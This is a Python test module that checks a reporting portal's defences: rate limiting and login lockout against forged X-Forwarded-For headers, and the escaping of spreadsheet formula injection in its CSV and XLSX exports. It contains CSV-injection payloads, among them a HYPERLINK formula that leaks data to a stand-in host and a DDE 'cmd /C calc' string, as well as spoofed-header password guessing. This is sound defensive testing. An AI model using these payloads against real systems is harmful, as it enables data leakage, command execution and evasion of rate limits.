"""The fault phases that come from what clients send (bench/faults.py), through HTTP:

- **forwarded headers**: anonymous API clients that send a new `X-Forwarded-For` with each
  request are still counted as their connection's address (rate limited, 429) when the
  deployment names no proxy (`API_NUM_PROXIES` unset, and `0`); so is someone guessing a
  password (the sign-in lockout);
- **formula injection**: a focal point's texts starting with =, +, -, @, a tab or a carriage
  return, read back from the secretariat's XLSX and CSV export of the cycle and from the
  API's CSV: each cell holds the text behind an apostrophe, never a formula."""

import csv
import io
import json
import urllib.error
import urllib.request
import uuid

from bench.common import log
from bench.fault_load import get, signed_in

ANON_LIMIT = 20  # the anonymous API rate of the phase's server, per hour
REQUESTS = 30
LOGIN_FAILURE_LIMIT = 5  # the portal's default (LOGIN_FAILURE_LIMIT)


def _api_statuses(base):
    statuses = []
    for n in range(REQUESTS):
        status, _, _ = get(base, "/api/v1/activities/",
                           headers={"X-Forwarded-For": f"198.51.100.{n + 1}"})  # fmt: skip
        statuses.append(status)
    return statuses


def _guessing(base, username, password):
    """LOGIN_FAILURE_LIMIT wrong passwords, then the right one, each from a new forged
    address: the last answer's status (429: the account is locked for this client)."""
    outcomes = []
    for n in range(LOGIN_FAILURE_LIMIT + 1):
        guess = password if n == LOGIN_FAILURE_LIMIT else f"wrong-{n}"
        result, _jar = signed_in(base, username, guess,
                                 headers={"X-Forwarded-For": f"203.0.113.{n + 1}"})  # fmt: skip
        outcomes.append(result.get("form", result.get("error")))
    return outcomes


def forwarded_headers(servers, start_server, password, plan):
    """For API_NUM_PROXIES unset and 0: the anonymous API's rate limit and the lockout."""
    results = {}
    cases = [("unset", {}, "bench-partner", 4),
             ("0", {"API_NUM_PROXIES": "0"}, f"bench-fp-{plan['focal_points'][-2]['iso_code'].lower()}", 5)]  # noqa: E501  # fmt: skip
    for name, extra, username, redis_db in cases:
        process, base, _env = start_server(
            servers, f"gunicorn-proxies-{name}", redis_db,
            API_THROTTLE_ANON=f"{ANON_LIMIT}/hour", WEB_CONCURRENCY="2", **extra,
        )  # fmt: skip
        try:
            statuses = _api_statuses(base)
            sign_in = _guessing(base, username, password)
        finally:
            servers.stop(process)
        counts = {str(s): statuses.count(s) for s in sorted(set(statuses))}
        results[name] = {
            "api_statuses": counts,
            "first_429_at_request": statuses.index(429) + 1 if 429 in statuses else None,
            "sign_in_answers": sign_in,
        }
        results[name]["ok"] = (
            statuses[:ANON_LIMIT] == [200] * ANON_LIMIT
            and statuses[ANON_LIMIT:] == [429] * (REQUESTS - ANON_LIMIT)
            and 302 not in sign_in
            and sign_in[-1] == 429
        )
        log(f"forwarded headers, API_NUM_PROXIES {name}: {results[name]}")
    results["ok"] = all(r["ok"] for r in results.values())
    return results


# --- formula injection ------------------------------------------------------------------------

PAYLOADS = [
    ("=", "progress", '=HYPERLINK("http://bench.invalid/?leak="&A1,"Click") {m}'),
    ("+", "results", "+1+1 {m}"),
    ("-", "obstacles", "-2+3 {m}"),
    ("@", "next_steps", "@SUM(1+1)*cmd|' /C calc'!A0 {m}"),
    ("tab", "partners", "\t=1+1 {m}"),
    ("CR", "progress", "\r=1+1 {m}"),  # in a second report
]


def _start_reports(servers, plan, fp):
    """Two reports of focal point `fp`, on activities without a report yet, carrying the
    payloads. Returns [(label, field, marker, report id)]."""
    auth = {"Authorization": f"Token {fp['token']}", "Content-Type": "application/json"}
    bodies = [{}, {}]
    planted = []
    for label, field, text in PAYLOADS:
        marker = f"FX{uuid.uuid4().hex[:10]}"
        bodies[1 if label == "CR" else 0][field] = text.format(m=marker)
        planted.append([label, field, marker, 1 if label == "CR" else 0])
    ids = []
    codes = iter(fp["activities"][::-1])
    for body in bodies:
        for code in codes:
            payload = {"cycle": plan["open_cycle"], "activity": code,
                       "range_state": fp["iso_code"], "prefill": False, **body}  # fmt: skip
            request = urllib.request.Request(
                servers.base_for_faults + "/api/v1/reports/",
                data=json.dumps(payload).encode(), headers=auth, method="POST",
            )  # fmt: skip
            try:
                with urllib.request.urlopen(request, timeout=30) as response:
                    ids.append(json.loads(response.read())["id"])
                    break
            except urllib.error.HTTPError as error:
                if error.code != 409:
                    log(f"formula injection: start refused {error.code} {error.read()[:300]}")
                    raise
    return [(label, field, marker, ids[which]) for label, field, marker, which in planted]


def _cells_with(rows, marker):
    return [cell for row in rows for cell in row if isinstance(cell, str) and marker in cell]


def _xlsx_rows(body):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(body)).active
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [[c.value for c in row] for row in sheet.iter_rows()], formulas


def _csv_rows(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def formula_injection(servers, plan, start_server, password):
    """The payloads written by a focal point through the API, read back from the three
    exports as the secretariat downloads them."""
    process, base, _env = start_server(servers, "gunicorn-formulas", 6)
    servers.base_for_faults = base
    try:
        fp = plan["focal_points"][-1]
        planted = _start_reports(servers, plan, fp)
        token = {"Authorization": f"Token {plan['secretariat_token']}"}
        stored = {}
        for report_id in {p[3] for p in planted}:
            status, _, body = get(base, f"/api/v1/reports/{report_id}/", headers=token)
            stored[report_id] = json.loads(body)
        signed, jar = signed_in(base, "bench-secretariat", password)
        cycle = plan["open_cycle"]
        exports = {}
        status, _, body = get(base, f"/reporting/review/cycles/{cycle}/export.xlsx", jar)
        rows, formulas = _xlsx_rows(body) if status == 200 else ([], [])
        exports["cycle XLSX"] = {"status": status, "rows": rows, "formula_cells": formulas}
        status, _, body = get(base, f"/reporting/review/cycles/{cycle}/export.csv", jar)
        exports["cycle CSV"] = {"status": status, "rows": _csv_rows(body) if status == 200 else []}
        status, _, body = get(
            base, f"/api/v1/reports/?format=csv&cycle={cycle}&range_state={fp['iso_code']}",
            headers=token,
        )  # fmt: skip
        exports["API CSV"] = {"status": status, "rows": _csv_rows(body) if status == 200 else []}
    finally:
        servers.stop(process)
    cells = []
    for label, field, marker, report_id in planted:
        text = stored[report_id][field]
        sent = next(t for name, _f, t in PAYLOADS if name == label)
        row = {"starts with": label, "field": field, "sent": sent[:8], "stored": text[:12]}
        for name, export in exports.items():
            found = _cells_with(export["rows"], marker)
            row[name] = found[0][:14] if found else None
            row[f"{name} escaped"] = found == ["'" + text]
        cells.append(row)
    result = {
        "signed_in": signed,
        "statuses": {name: e["status"] for name, e in exports.items()},
        "xlsx_formula_cells": exports["cycle XLSX"]["formula_cells"],
        "cells": cells,
    }
    result["ok"] = (
        all(e["status"] == 200 for e in exports.values())
        and not result["xlsx_formula_cells"]
        and all(row[f"{name} escaped"] for row in cells for name in exports)
    )
    log(f"formula injection: ok={result['ok']} {json.dumps(cells)[:1500]}")
    return result
